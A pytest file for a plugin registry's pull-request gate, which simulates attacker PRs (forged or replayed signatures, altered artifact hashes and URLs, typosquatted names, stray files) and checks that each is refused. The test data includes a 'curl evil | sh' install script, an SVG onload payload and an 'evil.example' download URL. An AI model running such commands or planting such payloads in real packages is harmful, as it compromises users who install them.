"""The pull-request gate: named pull requests against a real git repository.

The `repo` fixture commits the bundled index as the base on branch `main` and checks
out branch `pr`. Each case edits the working tree as an author (or an attacker)
would, commits it, and runs `plugindex validate registry-index --base main` in the
repository, as CI does. Refused PRs must name the rule id and the file:line.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from builder.authoring.sign import sign_file
from builder.cli.main import cli
from builder.gate.rules import RULES
from builder.index.build import build
from builder.trust.signing import key_id, public_key_text
from tests.conftest import BUNDLED_INDEX, demo_key

INDEX = "registry-index"
JWT = f"{INDEX}/plugins/auth-jwt"
CSV = f"{INDEX}/plugins/datasource-csv"
# A key nobody lists: an attacker's, or a friend's who is not an owner.
STRANGER = Ed25519PrivateKey.from_private_bytes(b"\x07" * 32)


def git(repo: Path, *args: str) -> str:
    result = subprocess.run(
        ["git", "-c", "user.name=Test", "-c", "user.email=test@example.org", *args],
        cwd=repo,
        capture_output=True,
        text=True,
        check=True,
    )
    return result.stdout


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A git repository: the bundled index committed on `main`, branch `pr` checked out."""
    root = tmp_path / "repo"
    shutil.copytree(BUNDLED_INDEX, root / INDEX)
    (root / "README.md").write_text("# A plugin registry\n", encoding="utf-8")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    git(root, "checkout", "-q", "-b", "pr")
    monkeypatch.chdir(root)
    return root


def commit(repo: Path, message: str = "pr") -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "--allow-empty", "-m", message)


def merge(repo: Path) -> None:
    """Merge the PR into main (fast-forward) and start a new PR branch from it."""
    commit(repo)
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--ff-only", "pr")
    git(repo, "checkout", "-q", "-B", "pr")


def gate(*extra: str) -> Result:
    return CliRunner().invoke(cli, ["validate", INDEX, "--base", "main", "--no-fetch", *extra])


# --- editing helpers -----------------------------------------------------------------


def read(repo: Path, rel: str) -> str:
    return (repo / rel).read_text(encoding="utf-8")


def write(repo: Path, rel: str, text: str) -> None:
    (repo / rel).parent.mkdir(parents=True, exist_ok=True)
    (repo / rel).write_text(text, encoding="utf-8")


def line_of(repo: Path, rel: str, pattern: str) -> int:
    """Return the 1-based number of the first line matching `pattern`."""
    for number, line in enumerate(read(repo, rel).splitlines(), 1):
        if re.search(pattern, line):
            return number
    raise AssertionError(f"{pattern!r} not in {rel}")


def without_sections(text: str, *names: str) -> str:
    """Drop top-level sections (a key and its indented lines) from YAML text."""
    kept, skipping = [], False
    for line in text.splitlines():
        if not line.startswith((" ", "#")):
            skipping = line.split(":", 1)[0] in names
        if not skipping:
            kept.append(line)
    return "\n".join(kept) + "\n"


def add_version(
    repo: Path, plugin: str, version: str, key: Ed25519PrivateKey | None, source: str = ""
) -> str:
    """Add `version` (a copy of `source` or the plugin's newest file), signed by `key`."""
    folder = repo / INDEX / "plugins" / plugin / "versions"
    template = folder / source if source else sorted(folder.glob("*.yaml"))[-1]
    text = without_sections(template.read_text(encoding="utf-8"), "yanked", "signature")
    text = re.sub(r"(?m)^version: .*$", f"version: {version}", text)
    rel = f"{INDEX}/plugins/{plugin}/versions/{version}.yaml"
    write(repo, rel, text)
    if key is not None:
        sign_file(repo / rel, key)
    return rel


def signature_block(repo: Path, rel: str, section: str = "") -> str:
    """Return the text of a file's (or a section's) signature block."""
    indent = "  " if section else ""
    match = re.search(rf"(?m)^{indent}signature:\n(?:{indent}  .*\n)+", read(repo, rel))
    assert match, f"no signature block in {rel}"
    return match[0]


def yank(repo: Path, rel: str, *, serial: int, key: Ed25519PrivateKey | None) -> None:
    text = read(repo, rel).rstrip("\n")
    write(repo, rel, text + f"\nyanked:\n  reason: Leaks tokens in logs.\n  serial: {serial}\n")
    if key is not None:
        sign_file(repo / rel, key, yank=True)


def edit_manifest(
    repo: Path,
    plugin: str,
    change: Callable[[str], str],
    *,
    revision: int | None,
    key: Ed25519PrivateKey | None,
) -> str:
    rel = f"{INDEX}/plugins/{plugin}/plugin.yaml"
    text = change(without_sections(read(repo, rel), "signature", "revision"))
    if revision is not None:
        text += f"revision: {revision}\n"
    write(repo, rel, text)
    if key is not None:
        sign_file(repo / rel, key)
    return rel


MARA = demo_key("mara-okafor")  # owns auth-jwt (with jan-kowalski) and template-crypto
PRIYA = demo_key("priya-rao")  # owns datasource-postgres, not auth-jwt
THEO = demo_key("theo-lemaire")  # owns datasource-csv and template-faker


# --- the refused pull requests ----------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    rule: str
    file: str
    line: Callable[[Path], int | None]  # computed on the edited tree
    author: str | None = None


def at(rel: str, pattern: str) -> Callable[[Path], int | None]:
    return lambda repo: line_of(repo, rel, pattern)


def no_line(repo: Path) -> int | None:
    return None


def pr_version_signed_by_a_non_owner(repo: Path) -> Refused:
    rel = add_version(repo, "auth-jwt", "1.3.0", PRIYA)
    return Refused("PX101", rel, at(rel, r"^signature:"))


def pr_valid_signature_but_author_not_an_owner(repo: Path) -> Refused:
    add_version(repo, "auth-jwt", "1.3.0", MARA)
    rel = f"{JWT}/plugin.yaml"
    return Refused("PX102", rel, at(rel, r"^owners:"), author="priya-rao")


def pr_signature_copied_from_another_version(repo: Path) -> Refused:
    rel = add_version(repo, "auth-jwt", "1.3.0", None)
    write(repo, rel, read(repo, rel) + signature_block(repo, f"{JWT}/versions/1.2.0.yaml"))
    return Refused("PX103", rel, at(rel, r"^signature:"))


def pr_yank_signature_reused_as_a_release(repo: Path) -> Refused:
    """An owner's real signature, but over a yank statement: it must not pass as a release."""
    rel = add_version(repo, "datasource-csv", "1.0.3", None)
    stolen = signature_block(repo, f"{CSV}/versions/1.0.1.yaml", "yanked")
    write(repo, rel, read(repo, rel) + re.sub(r"(?m)^  ", "", stolen))
    return Refused("PX103", rel, at(rel, r"^signature:"))


def pr_changed_sha256_of_a_merged_version(repo: Path) -> Refused:
    rel = f"{JWT}/versions/1.0.0.yaml"
    text = read(repo, rel)
    old = re.search(r"sha256: (\w+)", text)
    assert old
    write(repo, rel, text.replace(old[1], "ab" * 32))
    sign_file(repo / rel, MARA)  # even re-signed by an owner
    return Refused("PX111", rel, at(rel, r"^  sha256:"))


def pr_changed_url_of_a_merged_version(repo: Path) -> Refused:
    rel = f"{JWT}/versions/1.1.0.yaml"
    write(repo, rel, read(repo, rel).replace("url: artifacts/", "url: https://evil.example/"))
    sign_file(repo / rel, MARA)
    return Refused("PX111", rel, at(rel, r"^  url:"))


def pr_changed_compatibility_of_a_merged_version(repo: Path) -> Refused:
    rel = f"{JWT}/versions/1.1.0.yaml"
    text = read(repo, rel)
    write(repo, rel, re.sub(r"(?m)^  host: .*$", '  host: "*"', text, count=1))
    sign_file(repo / rel, MARA)
    return Refused("PX110", rel, at(rel, r"^compatibility:"))


def pr_deleted_version(repo: Path) -> Refused:
    rel = f"{JWT}/versions/1.0.0.yaml"
    (repo / rel).unlink()
    return Refused("PX112", rel, no_line)


def pr_reused_version_number(repo: Path) -> Refused:
    """1.0.0 was deleted by maintainers long ago; a PR may not publish it again."""
    (repo / JWT / "versions" / "1.0.0.yaml").unlink()
    merge(repo)
    rel = add_version(repo, "auth-jwt", "1.0.0", MARA, source="1.2.0.yaml")
    return Refused("PX114", rel, at(rel, r"^version:"))


def pr_version_number_reused_with_build_metadata(repo: Path) -> Refused:
    rel = add_version(repo, "auth-jwt", "1.2.0+rebuild.2", MARA, source="1.2.0.yaml")
    return Refused("PX114", rel, at(rel, r"^version:"))


def pr_unsigned_yank(repo: Path) -> Refused:
    rel = f"{JWT}/versions/1.1.0.yaml"
    yank(repo, rel, serial=1, key=None)
    return Refused("PX104", rel, at(rel, r"^yanked:"))


def pr_yank_signed_by_a_non_owner(repo: Path) -> Refused:
    rel = f"{JWT}/versions/1.1.0.yaml"
    yank(repo, rel, serial=1, key=PRIYA)
    return Refused("PX101", rel, at(rel, r"^  signature:"))


def pr_yank_that_breaks_a_dependent(repo: Path) -> Refused:
    """protocol-grpc 0.9.0 needs observability-otel ^0.3, which only 0.3.0 satisfies."""
    rel = f"{INDEX}/plugins/observability-otel/versions/0.3.0.yaml"
    yank(repo, rel, serial=1, key=PRIYA)
    return Refused("PX122", rel, at(rel, r"^yanked:"))


def pr_yank_taken_back_without_a_signed_unyank(repo: Path) -> Refused:
    rel = f"{CSV}/versions/1.0.1.yaml"
    write(repo, rel, without_sections(read(repo, rel), "yanked"))
    return Refused("PX121", rel, at(rel, r"^version:"))


def pr_unyank_replaying_an_old_serial(repo: Path) -> Refused:
    rel = f"{CSV}/versions/1.0.1.yaml"
    write(repo, rel, without_sections(read(repo, rel), "yanked") + "unyanked:\n  serial: 1\n")
    sign_file(repo / rel, THEO, yank=True)
    return Refused("PX120", rel, at(rel, r"^  serial:"))


def pr_owner_added_by_a_non_owner(repo: Path) -> Refused:
    def add_priya(text: str) -> str:
        owner = f"  - github: priya-rao\n    keys:\n      - {public_key_text(PRIYA)}\n"
        return text.replace("readme: README.md\n", owner + "readme: README.md\n")

    rel = edit_manifest(repo, "auth-jwt", add_priya, revision=2, key=PRIYA)
    return Refused("PX101", rel, at(rel, r"^signature:"), author="priya-rao")


def pr_plugin_yaml_changed_unsigned(repo: Path) -> Refused:
    def reword(text: str) -> str:
        return text.replace("display_name: JWT Authentication", "display_name: JWT Auth (new)")

    rel = edit_manifest(repo, "auth-jwt", reword, revision=2, key=None)
    return Refused("PX104", rel, at(rel, r"^name:"))


def pr_plugin_yaml_changed_without_new_revision(repo: Path) -> Refused:
    def reword(text: str) -> str:
        return text.replace("display_name: JWT Authentication", "display_name: JWT Auth (new)")

    rel = edit_manifest(repo, "auth-jwt", reword, revision=None, key=MARA)
    return Refused("PX105", rel, at(rel, r"^name:"))


def _copy_plugin(repo: Path, source: str, name: str) -> str:
    """Start plugin `name` as a copy of `source`, renamed, owned and signed by priya."""
    target = repo / INDEX / "plugins" / name
    shutil.copytree(repo / INDEX / "plugins" / source, target)
    manifest = target / "plugin.yaml"
    text = manifest.read_text(encoding="utf-8").replace(f"name: {source}", f"name: {name}", 1)
    text = re.sub(
        r"(?ms)^owners:.*?(?=^\S)",
        f"owners:\n  - github: priya-rao\n    keys:\n      - {public_key_text(PRIYA)}\n",
        text,
    )
    manifest.write_text(text, encoding="utf-8")
    for version in (target / "versions").glob("*.yaml"):
        version.write_text(
            without_sections(version.read_text(encoding="utf-8"), "yanked"), encoding="utf-8"
        )
        sign_file(version, PRIYA)
    return f"{INDEX}/plugins/{name}/plugin.yaml"


def pr_typosquat_lookalike_letters(repo: Path) -> Refused:
    rel = _copy_plugin(repo, "auth-jwt", "auth-jvvt")
    return Refused("PX131", rel, at(rel, r"^name:"))


def pr_typosquat_one_edit_away(repo: Path) -> Refused:
    rel = _copy_plugin(repo, "auth-jwt", "auth-jwtt")  # a doubled key
    return Refused("PX131", rel, at(rel, r"^name:"))


def pr_typosquat_underscore(repo: Path) -> Refused:
    rel = _copy_plugin(repo, "auth-jwt", "auth_jwt")
    return Refused("PX130", rel, at(rel, r"^name:"))


def pr_typosquat_upper_case(repo: Path) -> Refused:
    rel = _copy_plugin(repo, "auth-jwt", "Auth-JWT")
    return Refused("PX130", rel, at(rel, r"^name:"))


def pr_two_plugins(repo: Path) -> Refused:
    add_version(repo, "auth-jwt", "1.3.0", MARA)
    rel = add_version(repo, "template-faker", "0.6.0", THEO)
    return Refused("PX141", rel, no_line)


def pr_file_outside_the_plugin_folder(repo: Path) -> Refused:
    add_version(repo, "auth-jwt", "1.3.0", MARA)
    write(repo, ".github/workflows/validate.yml", "on: push\n")
    return Refused("PX140", ".github/workflows/validate.yml", no_line)


def pr_registry_settings_changed(repo: Path) -> Refused:
    rel = f"{INDEX}/registry.yaml"
    write(repo, rel, read(repo, rel).replace("reserved_names: [", "reserved_names: [x-"))
    return Refused("PX140", rel, no_line)


def pr_plugin_deleted(repo: Path) -> Refused:
    shutil.rmtree(repo / INDEX / "plugins" / "observability-otel")
    rel = f"{INDEX}/plugins/observability-otel/plugin.yaml"
    return Refused("PX113", rel, no_line)


def pr_new_plugin_signed_with_a_key_it_does_not_list(repo: Path) -> Refused:
    _copy_plugin(repo, "auth-jwt", "session-cookies")
    rel = f"{INDEX}/plugins/session-cookies/versions/1.2.0.yaml"
    sign_file(repo / rel, STRANGER)
    return Refused("PX101", rel, at(rel, r"^signature:"))


def pr_retired_key_signs_a_new_version(repo: Path) -> Refused:
    new = Ed25519PrivateKey.from_private_bytes(b"\x11" * 32)
    _rotate_maras_key(repo, new)
    merge(repo)
    rel = add_version(repo, "auth-jwt", "1.3.0", MARA)
    return Refused("PX101", rel, at(rel, r"^signature:"))


def pr_release_dated_in_the_future(repo: Path) -> Refused:
    rel = add_version(repo, "auth-jwt", "1.3.0", None)
    write(repo, rel, re.sub(r"(?m)^released: .*$", "released: 9999-12-31", read(repo, rel)))
    sign_file(repo / rel, MARA)
    return Refused("PX116", rel, at(rel, r"^released:"))


def pr_name_with_a_reserved_word(repo: Path) -> Refused:
    """`official` is reserved (registry.yaml): not as a name, nor as a word of one."""
    rel = _copy_plugin(repo, "auth-jwt", "official-cookies")
    return Refused("PX132", rel, at(rel, r"^name:"))


REFUSED = [
    pr_release_dated_in_the_future,
    pr_name_with_a_reserved_word,
    pr_version_signed_by_a_non_owner,
    pr_valid_signature_but_author_not_an_owner,
    pr_signature_copied_from_another_version,
    pr_yank_signature_reused_as_a_release,
    pr_changed_sha256_of_a_merged_version,
    pr_changed_url_of_a_merged_version,
    pr_changed_compatibility_of_a_merged_version,
    pr_deleted_version,
    pr_reused_version_number,
    pr_version_number_reused_with_build_metadata,
    pr_unsigned_yank,
    pr_yank_signed_by_a_non_owner,
    pr_yank_that_breaks_a_dependent,
    pr_yank_taken_back_without_a_signed_unyank,
    pr_unyank_replaying_an_old_serial,
    pr_owner_added_by_a_non_owner,
    pr_plugin_yaml_changed_unsigned,
    pr_plugin_yaml_changed_without_new_revision,
    pr_typosquat_lookalike_letters,
    pr_typosquat_one_edit_away,
    pr_typosquat_underscore,
    pr_typosquat_upper_case,
    pr_two_plugins,
    pr_file_outside_the_plugin_folder,
    pr_registry_settings_changed,
    pr_plugin_deleted,
    pr_new_plugin_signed_with_a_key_it_does_not_list,
    pr_retired_key_signs_a_new_version,
]


@pytest.mark.parametrize("make_pr", REFUSED, ids=[f.__name__[3:] for f in REFUSED])
def test_pull_request_is_refused(repo: Path, make_pr: Callable[[Path], Refused]) -> None:
    expected = make_pr(repo)
    commit(repo)
    result = gate(*(["--author", expected.author] if expected.author else []))
    assert "Traceback" not in result.output
    assert result.exit_code == 1, result.output
    line = expected.line(repo)
    where = f"{expected.file}:{line}: " if line else f"{expected.file}: "
    found = [text for text in result.stderr.splitlines() if text.startswith(where)]
    assert any(f" {expected.rule} " in f" {text} " for text in found), (
        f"expected {expected.rule} at {where!r}:\n{result.output}"
    )


def test_the_copied_signature_is_named(repo: Path) -> None:
    pr_signature_copied_from_another_version(repo)
    commit(repo)
    assert "it is the release signature of 1.2.0.yaml, copied" in gate().stderr


def test_a_yank_signature_passed_off_as_a_release_is_named(repo: Path) -> None:
    pr_yank_signature_reused_as_a_release(repo)
    commit(repo)
    assert "it is the yank signature of 1.0.1.yaml, copied" in gate().stderr


def test_a_typosquat_names_the_plugin_it_resembles(repo: Path) -> None:
    pr_typosquat_lookalike_letters(repo)
    commit(repo)
    assert "'auth-jvvt' resembles the existing plugin 'auth-jwt'" in gate().stderr


def test_an_approved_similar_name_passes(repo: Path) -> None:
    pr_typosquat_one_edit_away(repo)
    commit(repo)
    registry = f"{INDEX}/registry.yaml"
    base_registry = read(repo, registry)
    # Maintainers approve the name on main first; then the plugin's PR passes.
    git(repo, "checkout", "-q", "main")
    approved = "policy:\n  approved_similar_names: [auth-jwtt]\n"
    write(repo, registry, base_registry.replace("policy:\n", approved, 1))
    commit(repo, "approve auth-jwtt")
    git(repo, "checkout", "-q", "pr")
    git(repo, "rebase", "-q", "main")
    result = gate("--author", "priya-rao")
    assert result.exit_code == 0, result.output


# --- the valid pull requests -------------------------------------------------------------


def test_a_new_plugin_made_with_keygen_and_new_passes(repo: Path) -> None:
    runner = CliRunner()
    key_file = repo.parent / "me.pem"
    made = runner.invoke(cli, ["keygen", str(key_file), "--no-encrypt"])
    assert made.exit_code == 0, made.output
    artifact = repo.parent / "cookie-jar-0.1.0.tar.gz"
    artifact.write_bytes(b"a plugin archive\n" * 10)
    started = runner.invoke(
        cli,
        [
            "new",
            "cookie-jar",
            "--index",
            INDEX,
            "--artifact",
            str(artifact),
            "--url",
            "https://downloads.example.org/cookie-jar-0.1.0.tar.gz",
            "--owner",
            "sam-baker",
            "--key",
            str(key_file),
            "--category",
            "auth",
        ],
    )
    assert started.exit_code == 0, started.output
    commit(repo)
    result = gate("--author", "sam-baker")
    assert result.exit_code == 0, result.output
    assert "(cookie-jar)" in result.output


def test_a_new_version_signed_by_an_owner_passes(repo: Path) -> None:
    add_version(repo, "auth-jwt", "1.3.0", demo_key("jan-kowalski"))
    commit(repo)
    result = gate("--author", "jan-kowalski")
    assert result.exit_code == 0, result.output
    assert "1 version files added or changed: valid" in result.output


def test_an_owner_signed_yank_passes_and_builds_as_yanked(repo: Path, tmp_path: Path) -> None:
    rel = f"{JWT}/versions/1.1.0.yaml"
    yank(repo, rel, serial=1, key=MARA)
    commit(repo)
    result = gate("--author", "mara-okafor")
    assert result.exit_code == 0, result.output
    # The JSON index only: these cases are about the gate, not the site or signing.
    assert build(Path(INDEX), tmp_path / "out").held_back == ()
    document = (tmp_path / "out/index/au/th/auth-jwt.json").read_text(encoding="utf-8")
    assert '"reason":"Leaks tokens in logs."' in document


def test_an_owner_signed_unyank_passes(repo: Path) -> None:
    rel = f"{CSV}/versions/1.0.1.yaml"
    write(repo, rel, without_sections(read(repo, rel), "yanked") + "unyanked:\n  serial: 2\n")
    sign_file(repo / rel, THEO, yank=True)
    commit(repo)
    result = gate("--author", "theo-lemaire")
    assert result.exit_code == 0, result.output


def _rotate_maras_key(repo: Path, new: Ed25519PrivateKey) -> None:
    old_public, new_public = public_key_text(MARA), public_key_text(new)

    def rotate(text: str) -> str:
        return text.replace(
            f"      - {old_public}\n",
            # Bound to the versions the old key signed: all it may still vouch for.
            f"      - {new_public}\n    retired_keys:\n      - key: {old_public}\n"
            "        versions: [1.0.0, 1.1.0, 1.2.0, 2.0.0-rc.1]\n",
        )

    edit_manifest(repo, "auth-jwt", rotate, revision=2, key=MARA)


def test_a_key_rotation_then_a_version_signed_with_the_new_key_passes(
    repo: Path, tmp_path: Path
) -> None:
    new = Ed25519PrivateKey.from_private_bytes(b"\x11" * 32)
    _rotate_maras_key(repo, new)
    commit(repo)
    rotated = gate("--author", "mara-okafor")
    assert rotated.exit_code == 0, rotated.output
    merge(repo)
    add_version(repo, "auth-jwt", "1.3.0", new)
    commit(repo)
    result = gate("--author", "mara-okafor")
    assert result.exit_code == 0, result.output
    # Old versions, signed with the retired key, still verify in a build.
    # The JSON index only: these cases are about the gate, not the site or signing.
    assert build(Path(INDEX), tmp_path / "out").held_back == ()
    document = (tmp_path / "out/index/au/th/auth-jwt.json").read_text(encoding="utf-8")
    assert f'"key_id":"{key_id(public_key_text(new))}"' in document


def test_no_change_passes(repo: Path) -> None:
    result = gate()
    assert result.exit_code == 0, result.output


# --- output for CI -------------------------------------------------------------------


def test_github_format_annotates_and_writes_a_step_summary(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    rel = add_version(repo, "auth-jwt", "1.3.0", PRIYA)
    commit(repo)
    result = gate("--format", "github")
    assert result.exit_code == 1
    line = line_of(repo, rel, r"^signature:")
    assert f"::error file={rel},line={line}::PX101 signature: " in result.stdout
    text = summary.read_text(encoding="utf-8")
    assert "| PX101 |" in text and f"`{rel}:{line}`" in text


def test_every_rule_is_documented_with_its_fix() -> None:
    docs = (Path(__file__).parent.parent / "docs" / "rules.md").read_text(encoding="utf-8")
    for rule in RULES.values():
        assert f"| {rule.id} | {rule.title} | {rule.fix} |" in docs, rule.id


def test_an_unknown_base_is_a_clear_error(repo: Path) -> None:
    result = CliRunner().invoke(cli, ["validate", INDEX, "--base", "no-such-branch"])
    assert result.exit_code == 3
    assert "--base 'no-such-branch': expected a branch, tag or commit" in result.stderr
    assert "Traceback" not in result.output


def test_a_new_dependency_that_closes_a_cycle_is_refused(repo: Path) -> None:
    """protocol-grpc -> auth-jwt -> template-crypto already; crypto -> grpc closes it."""
    rel = add_version(repo, "template-crypto", "1.2.0", MARA)
    text = without_sections(read(repo, rel), "signature")
    if "dependencies:" not in text:
        text = text.replace("compatibility:", "dependencies:\ncompatibility:", 1)
    text = text.replace("dependencies:\n", 'dependencies:\n  protocol-grpc:\n    version: "^0.9"\n')
    write(repo, rel, text)
    sign_file(repo / rel, MARA)
    commit(repo)
    result = gate("--author", "mara-okafor")
    assert result.exit_code == 1, result.output
    line = line_of(repo, rel, r"^  protocol-grpc:")
    assert f"{rel}:{line}: dependencies.protocol-grpc: " in result.stderr
    assert "cycle" in result.stderr


def test_an_index_outside_git_is_a_clear_error(tmp_path: Path) -> None:
    shutil.copytree(BUNDLED_INDEX, tmp_path / "plain")
    result = CliRunner().invoke(cli, ["validate", str(tmp_path / "plain"), "--base", "main"])
    assert result.exit_code == 3
    assert "plain: not inside a git repository" in result.stderr
    assert "Traceback" not in result.output


def test_author_without_base_is_a_usage_error(repo: Path) -> None:
    result = CliRunner().invoke(cli, ["validate", INDEX, "--author", "mara-okafor"])
    assert result.exit_code == 2
    assert "--author and --published need --base" in result.output


# --- against what is published ------------------------------------------------------


def test_a_published_version_cannot_come_back_different(
    repo: Path, tmp_path: Path, serve_dir: Any
) -> None:
    """The registry serves auth-jwt 1.2.0; git lost it (a rewritten history); a PR re-adds it."""
    # The JSON index only: these cases are about the gate, not the site or signing.
    assert build(Path(INDEX), tmp_path / "live").held_back == ()
    registry_url = serve_dir(tmp_path / "live")
    # Main forgets 1.2.0 with no trace in its history, as a squash or a migration would.
    git(repo, "checkout", "-q", "--orphan", "rewritten")
    (repo / JWT / "versions" / "1.2.0.yaml").unlink()
    (repo / JWT / "artifacts" / "auth-jwt-1.2.0.tar.gz").unlink()  # no stray left behind
    commit(repo, "rewritten history")
    git(repo, "branch", "-q", "-f", "main", "rewritten")
    git(repo, "checkout", "-q", "-B", "pr", "main")
    rel = add_version(repo, "auth-jwt", "1.2.0", MARA, source="1.1.0.yaml")
    commit(repo)
    assert gate("--author", "mara-okafor").exit_code == 0  # git alone cannot tell
    result = gate("--author", "mara-okafor", "--published", registry_url)
    assert result.exit_code == 1, result.output
    line = line_of(repo, rel, r"^  sha256:")
    assert f"{rel}:{line}: PX115 artifact.sha256: differs from the published version" in (
        result.stderr
    )


def test_a_published_name_is_never_given_to_someone_else(
    repo: Path, tmp_path: Path, serve_dir: Any
) -> None:
    # The JSON index only: these cases are about the gate, not the site or signing.
    assert build(Path(INDEX), tmp_path / "live").held_back == ()
    registry_url = serve_dir(tmp_path / "live")
    git(repo, "checkout", "-q", "--orphan", "rewritten")
    saved = tmp_path / "otel"
    shutil.move(repo / INDEX / "plugins" / "observability-otel", saved)
    # protocol-grpc depends on it: drop those versions' dependency so the base stays valid.
    for version in (repo / INDEX / "plugins" / "protocol-grpc" / "versions").glob("*.yaml"):
        text = version.read_text(encoding="utf-8")
        text = re.sub(r"(?m)^  observability-otel:\n(    .*\n)+", "", text)
        version.write_text(text, encoding="utf-8")
        sign_file(version, PRIYA)
    commit(repo, "rewritten history")
    git(repo, "branch", "-q", "-f", "main", "rewritten")
    git(repo, "checkout", "-q", "-B", "pr", "main")
    rel = _copy_plugin(repo, "datasource-postgres", "observability-otel")
    commit(repo)
    result = gate("--published", registry_url)
    assert result.exit_code == 1, result.output
    line = line_of(repo, rel, r"^name:")
    assert f"{rel}:{line}: PX115 name: observability-otel is not in the base, but the " in (
        result.stderr
    )


# --- what the loader skips or cannot read must not slip through --------------------------


def refused_at(result: Result, path: str, message: str) -> None:
    """Assert the gate refused, with `message` on a line for `path`."""
    assert "Traceback" not in result.output
    assert result.exit_code == 1, result.output
    assert any(
        line.startswith(f"{path}: ") and message in line for line in result.stderr.splitlines()
    ), result.output


def test_a_hidden_folder_under_plugins_is_refused(repo: Path) -> None:
    """The loader skipped dot-folders: merged, they would bypass every rule."""
    shutil.copytree(repo / INDEX / "plugins" / "auth-basic", repo / INDEX / "plugins" / ".cache")
    commit(repo)
    refused_at(gate(), f"{INDEX}/plugins/.cache", "unexpected entry (a name starting with '.'")


@pytest.mark.parametrize("kind", ["file", "link"])
def test_a_stray_entry_directly_under_plugins_is_refused(repo: Path, kind: str) -> None:
    """A file or link where a plugin folder belongs passed the gate, then broke every build."""
    entry = repo / INDEX / "plugins" / "notes"
    if kind == "file":
        entry.write_text("remember\n", encoding="utf-8")
    else:
        entry.symlink_to("auth-jwt")
    commit(repo)
    refused_at(gate(), f"{INDEX}/plugins/notes", "unexpected entry")


def _png(size: int = 64) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(size - 8)


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("install.sh", b"curl evil | sh\n", "unexpected file"),
        ("logo.svg", b"<svg onload='x'/>", "unexpected file"),
        (".DS_Store", b"\0\0\0\1Bud1", "unexpected file"),
        ("big.png", _png(2 * 1024 * 1024), "image too large (expected at most 1048576 bytes"),
        ("fake.png", b"<html>not an image</html>", "not a png image"),
    ],
    ids=["script", "svg", "hidden-file", "oversized-image", "not-an-image"],
)
def test_an_unreferenced_file_in_a_plugin_folder_is_refused(
    repo: Path, name: str, data: bytes, message: str
) -> None:
    (repo / JWT / "docs").mkdir()
    (repo / JWT / "docs" / name).write_bytes(data)
    commit(repo)
    refused_at(gate("--author", "mara-okafor"), f"{JWT}/docs/{name}", message)


def test_readme_images_are_accepted(repo: Path) -> None:
    (repo / JWT / "docs").mkdir()
    (repo / JWT / "docs" / "screenshot.png").write_bytes(_png())
    (repo / JWT / "docs" / "diagram.webp").write_bytes(b"RIFF\0\0\0\0WEBPVP8 ")
    commit(repo)
    result = gate("--author", "mara-okafor")
    assert result.exit_code == 0, result.output


def test_a_name_git_holds_but_cannot_check_out_is_refused(repo: Path) -> None:
    """A 300-byte file name in the PR's commit, absent from the working tree: PX142, not 70."""
    blob = subprocess.run(
        ["git", "hash-object", "-w", "--stdin"],
        cwd=repo,
        input="x\n",
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    long_name = "b" * 300
    path = f"{JWT}/versions/{long_name}.yaml"
    git(repo, "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
    git(repo, "commit", "-q", "-m", "a long name")
    result = gate()
    assert "Traceback" not in result.output
    assert result.exit_code == 1, result.output
    assert "PX142" in result.stderr and "a name of 305 bytes" in result.stderr


def test_folders_nested_too_deep_are_refused(repo: Path) -> None:
    deep = repo / JWT / "/".join(["d"] * 12)
    deep.mkdir(parents=True)
    (deep / "x.png").write_bytes(_png())
    commit(repo)
    result = gate("--author", "mara-okafor")
    assert result.exit_code == 1, result.output
    assert "PX142" in result.stderr and "12 levels of folders" in result.stderr
    assert "folder nested too deeply" in result.stderr


# --- names: how to get approval, reserved words ----------------------------------------


def test_a_similar_name_says_the_exact_registry_line_to_add(repo: Path) -> None:
    pr_typosquat_one_edit_away(repo)
    commit(repo)
    stderr = gate().stderr
    assert "ask a maintainer to approve the name in a pull request to registry.yaml" in stderr
    assert "adding, under `policy:`, `  approved_similar_names: [auth-jwtt]`" in stderr


def test_the_approval_line_keeps_the_names_already_approved(repo: Path) -> None:
    registry = f"{INDEX}/registry.yaml"
    git(repo, "checkout", "-q", "main")
    text = read(repo, registry).replace(
        "policy:\n", "policy:\n  approved_similar_names: [auth-jws]\n", 1
    )
    write(repo, registry, text)
    commit(repo, "approve auth-jws")
    git(repo, "checkout", "-q", "-B", "pr", "main")
    pr_typosquat_one_edit_away(repo)
    commit(repo)
    stderr = gate().stderr
    assert "changing that line to `  approved_similar_names: [auth-jws, auth-jwtt]`" in stderr


def test_a_reserved_word_in_a_name_is_approvable(repo: Path) -> None:
    pr_name_with_a_reserved_word(repo)
    commit(repo)
    registry = f"{INDEX}/registry.yaml"
    git(repo, "checkout", "-q", "main")
    text = read(repo, registry).replace(
        "policy:\n", "policy:\n  approved_similar_names: [official-cookies]\n", 1
    )
    write(repo, registry, text)
    commit(repo, "approve official-cookies")
    git(repo, "checkout", "-q", "pr")
    git(repo, "rebase", "-q", "main")
    result = gate("--author", "priya-rao")
    assert result.exit_code == 0, result.output


# --- GitHub handles ignore case ------------------------------------------------------------


def test_the_pr_author_is_an_owner_whatever_the_case(repo: Path) -> None:
    add_version(repo, "auth-jwt", "1.3.0", MARA)
    commit(repo)
    result = gate("--author", "Mara-Okafor")
    assert result.exit_code == 0, result.output
    assert gate("--author", "MARA-OKAFOR-X").exit_code == 1


def test_owner_handles_that_differ_only_in_case_are_the_same_owner(repo: Path) -> None:
    def twice(text: str) -> str:
        again = f"  - github: Mara-Okafor\n    keys:\n      - {public_key_text(PRIYA)}\n"
        return text.replace("readme: README.md\n", again + "readme: README.md\n")

    rel = edit_manifest(repo, "auth-jwt", twice, revision=2, key=None)  # sign refuses it too
    commit(repo)
    result = gate("--author", "mara-okafor")
    assert result.exit_code == 1, result.output
